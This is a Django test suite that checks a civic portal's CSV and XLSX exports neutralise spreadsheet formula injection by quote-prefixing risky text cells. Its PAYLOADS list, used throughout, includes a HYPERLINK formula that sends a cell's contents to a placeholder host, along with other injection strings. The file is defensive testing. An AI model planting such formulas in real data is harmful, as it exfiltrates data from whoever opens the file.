"""Formula injection: every CSV/XLSX the portal writes, public or admin, hands out text cells inert."""

import csv
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from civic_portal.core import exports
from civic_portal.core.exports import BOM, csv_response, neutralise, unneutralise, xlsx_response
from facilities.services import booking_create
from grants.models import Status
from groups.models import Group
from tests.factories.accounts import StaffFactory, UserFactory
from tests.factories.facilities import FacilityFactory, SpaceFactory, at, next_weekday
from tests.factories.grants import ApplicationFactory, RoundFactory
from tests.factories.groups import GroupFactory
from tests.factories.indicators import (
    ActionItemFactory,
    IndicatorFactory,
    ObservationFactory,
    PlanFactory,
    YearPlanFactory,
)
from tests.factories.volunteers import VolunteerProfileFactory

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://x"&A1,"x")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1", "\r=1"]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# neutralise ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*PAYLOADS, "=1", "+", "-", "@", "\t", "\r", "-x", "=A1", "＝1+1", "＋1", "－1"])
def test_text_that_a_spreadsheet_reads_as_a_formula_is_quote_prefixed(value):
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == "'" + value  # once only
    assert unneutralise(neutralise(value)) == value


@pytest.mark.parametrize("value", [0, 5, -5, -1.5, Decimal("-1.25"), Decimal("0"), True, False])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("value", ["-5", "-1.25", "5", "0.5"])
def test_a_plain_decimal_number_as_text_is_not_a_formula(value):
    assert neutralise(value) == value


PLAIN = [None, "", "子ども&親の会", "ーイベント", "・清掃", "'既に引用符", "a=b", "1+1", " =1"]


@pytest.mark.parametrize("value", PLAIN)
def test_other_values_are_untouched(value):
    assert neutralise(value) == value
    assert unneutralise(value) == value


def test_a_lazy_translation_is_written_as_text():
    from django.utils.translation import gettext_lazy

    assert neutralise(gettext_lazy("年度")) == "年度"


def test_japanese_file_names_go_out_as_rfc_5987():
    header = exports.content_disposition("公共施設一覧.csv")
    assert header == "attachment; filename=\"download.csv\"; filename*=UTF-8''" + quote("公共施設一覧.csv")
    assert quote("公共施設一覧.csv").startswith("%E5%85%AC")
    assert exports.content_disposition("grants.csv") == 'attachment; filename="grants.csv"'
    assert exports.content_disposition("p-報告-2025.xlsx").startswith('attachment; filename="p--2025.xlsx"; filename*=')


def test_csv_helper_writes_utf8_with_bom_unless_told_not_to():
    response = csv_response("t.csv", ["名称", "数"], [["=1", -5], ["子ども&親の会", Decimal("1.5")]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM.encode())
    assert response.content.decode("utf-8-sig") == "名称,数\r\n'=1,-5\r\n子ども&親の会,1.5\r\n"
    plain = csv_response("t.csv", None, [["@x"]], bom=False)
    assert plain.content == b"'@x\r\n"


def test_csv_helper_streams_the_same_bytes():
    rows = [["=1", 2], ["x", None]]
    streamed = csv_response("t.csv", ["a", "b"], iter(rows), streaming=True)
    assert b"".join(streamed.streaming_content) == csv_response("t.csv", ["a", "b"], rows).content


def test_xlsx_helper_writes_no_formula_and_keeps_numbers_and_local_times():
    when = timezone.make_aware(timezone.datetime(2025, 4, 1, 9, 30))
    response = xlsx_response("t.xlsx", ["=名称", "数", "日時"], [[*PAYLOADS[:1], -5, when], ["bad\x1bchar", 1.5, None]])
    assert response["Content-Type"] == XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "'=名称"
    assert sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "'" + PAYLOADS[0]
    assert sheet["A2"].data_type != "f"
    assert sheet["B2"].value == -5
    assert sheet["B2"].data_type == "n"
    assert sheet["C2"].value == timezone.datetime(2025, 4, 1, 9, 30)
    assert sheet["A3"].value == "bad\ufffdchar"  # a control character would make openpyxl refuse the file


# Reading what went out -----------------------------------------------------------------------------------------


def _csv_rows(response, *, bom=True):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(BOM.encode()) is bom
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


def _assert_inert(values, payloads=PAYLOADS):
    """Each payload went out quote-prefixed, and no text cell starts the way a formula does."""
    texts = [v for v in values if isinstance(v, str)]
    for payload in payloads:
        # XML normalises a bare CR to LF, so an XLSX cell of "\r=1" reads back as "\n=1".
        assert "'" + payload in texts or "'" + payload.replace("\r", "\n") in texts, payload
    assert not [v for v in texts if v != neutralise(v)]


def _cells(rows):
    return [value for row in rows for value in row]


# Public and staff downloads ------------------------------------------------------------------------------------


def test_facilities_open_data_csv(client):
    for payload in PAYLOADS:
        FacilityFactory(name=payload, description=payload)
    response = client.get(reverse("facilities:opendata_csv"))
    assert response["Content-Disposition"] == 'attachment; filename="public_facilities.csv"'
    rows = _csv_rows(response)
    assert rows[0][0] == "全国地方公共団体コード"
    assert len(rows[0]) == 29
    names = [dict(zip(rows[0], row, strict=True))["名称"] for row in rows[1:]]
    assert all(name.startswith("'") for name in names)
    assert len(names) == len(PAYLOADS)
    _assert_inert(_cells(rows))


def test_grants_open_data_csv(client):
    grant_round = RoundFactory(results_published=True, results_published_at=timezone.now())
    for payload in PAYLOADS:
        ApplicationFactory(
            round=grant_round,
            group=GroupFactory(name=payload),
            title=payload,
            status=Status.ACCEPTED,
            awarded_amount=100_000,
            decided_at=timezone.now(),
        )
    rows = _csv_rows(client.get(reverse("grants:opendata_csv")))
    assert rows[0][:2] == ["Identifier", "Title"]  # 360Giving column titles, unchanged
    by_column = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert all(row["Title"].startswith("'") and row["Recipient Org:Name"].startswith("'") for row in by_column)
    assert {row["Amount Awarded"] for row in by_column} == {"100000"}
    _assert_inert(_cells(rows))


def test_indicator_csv(client):
    indicator = IndicatorFactory(plan__code="p", code="1-3")
    for year, payload in enumerate(PAYLOADS, start=2014):
        ObservationFactory(indicator=indicator, fiscal_year=year, value=Decimal("-3.5"), source_note=payload)
    client.force_login(StaffFactory())
    rows = _csv_rows(client.get(reverse("indicators:indicator_csv", args=["p", "1-3"])))
    assert rows[0][:2] == ["年度", "値"]
    assert rows[1][1] == "-3.5"  # a negative value is a number, not a formula
    _assert_inert(_cells(rows))


@pytest.fixture
def report_plan():
    plan = PlanFactory(code="p", start_year=2015, end_year=2015)
    for payload in PAYLOADS:
        item = ActionItemFactory(node__plan=plan, node__title=payload)
        YearPlanFactory(item=item, fiscal_year=2015, actual_stage="実施", progress_note=payload)
        IndicatorFactory(plan=plan, name=payload)
    return plan


def test_report_csv(client, report_plan):
    client.force_login(StaffFactory())
    rows = _csv_rows(client.get(reverse("indicators:report_csv", args=["p", 2015])))
    assert rows[0][:3] == ["区分", "番号", "名称"]
    assert len(rows) == 1 + 2 * len(PAYLOADS)
    assert all(row[2].startswith("'") for row in rows[1:])
    _assert_inert(_cells(rows))


def test_report_xlsx(client, report_plan):
    client.force_login(StaffFactory())
    response = client.get(reverse("indicators:report_xlsx", args=["p", 2015]))
    assert response["Content-Type"] == XLSX_TYPE
    values = _xlsx_cells(response)
    assert values[:3] == ["区分", "番号", "名称"]
    _assert_inert(values)


# django-import-export in the admin -----------------------------------------------------------------------------


@pytest.fixture
def staff_client(client):
    client.force_login(StaffFactory())
    return client


def _admin_export(client, model, fmt):
    url = reverse(f"admin:{model}_export")
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    choices = {str(label).lower(): value for value, label in form.fields["format"].choices if value != ""}
    assert set(choices) == {"csv", "xlsx"}  # only the two formats that neutralise
    data = {"format": choices[fmt], "resource": 0}
    data.update(dict.fromkeys(next(iter(form.resource_fields.values())), "on"))
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response


def _booking_payloads():
    space = SpaceFactory()
    for hour, payload in zip(range(9, 21, 2), PAYLOADS, strict=True):
        day = next_weekday(1)
        booking_create(
            user=UserFactory(), space=space, starts_at=at(day, hour), ends_at=at(day, hour + 1), purpose=payload,
            expected_attendees=2,
        )  # fmt: skip


def _group_payloads():
    for payload in PAYLOADS:
        GroupFactory(name=payload, purpose=payload)


def _volunteer_payloads():
    for payload in PAYLOADS:
        VolunteerProfileFactory(display_name=payload)


def _application_payloads():
    for payload in PAYLOADS:
        ApplicationFactory(title=payload, group=GroupFactory(name=payload))


def _indicator_payloads():
    plan = PlanFactory()
    for payload in PAYLOADS:
        IndicatorFactory(plan=plan, name=payload)


def _facility_payloads():
    for payload in PAYLOADS:
        FacilityFactory(name=payload)


ADMIN_EXPORTS = {
    "facilities_booking": _booking_payloads,
    "facilities_facility": _facility_payloads,
    "groups_group": _group_payloads,
    "groups_volunteerprofile": _volunteer_payloads,
    "grants_application": _application_payloads,
    "indicators_indicator": _indicator_payloads,
}


@pytest.mark.parametrize("model", ADMIN_EXPORTS)
def test_admin_csv_export(staff_client, model):
    ADMIN_EXPORTS[model]()
    response = _admin_export(staff_client, model, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _assert_inert(_cells(_csv_rows(response)))


@pytest.mark.parametrize("model", ADMIN_EXPORTS)
def test_admin_xlsx_export(staff_client, model):
    ADMIN_EXPORTS[model]()
    response = _admin_export(staff_client, model, "xlsx")
    _assert_inert(_xlsx_cells(response))


def test_admin_xlsx_export_keeps_numbers_as_numbers(staff_client):
    GroupFactory(name="=1", member_count=12)
    sheet = load_workbook(io.BytesIO(_admin_export(staff_client, "groups_group", "xlsx").content)).active
    headers = [cell.value for cell in sheet[1]]
    row = dict(zip(headers, [cell.value for cell in sheet[2]], strict=True))
    assert row["member_count"] == 12
    assert row["name"] == "'=1"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_admin_export_re_imports_unchanged(staff_client, worker, fmt):
    from tests.core import admin_imports as flow

    # Not "\r=1": no CSV or XLSX reader gives a CR inside a cell back as a CR (tablib splits lines, XML makes it LF).
    for payload in PAYLOADS[:-1]:
        GroupFactory(name=payload, purpose=payload)
    before = sorted(Group.objects.values_list("name", "purpose"))
    content = _admin_export(staff_client, "groups_group", fmt).content
    job = flow.previewed(staff_client, worker, "groups_group", f"groups.{fmt}", content, fmt=fmt)
    assert job.is_ready, job.errors
    assert (job.error_count, job.updated, job.new, job.skipped) == (0, 0, 0, len(PAYLOADS) - 1)
    assert sorted(Group.objects.values_list("name", "purpose")) == before
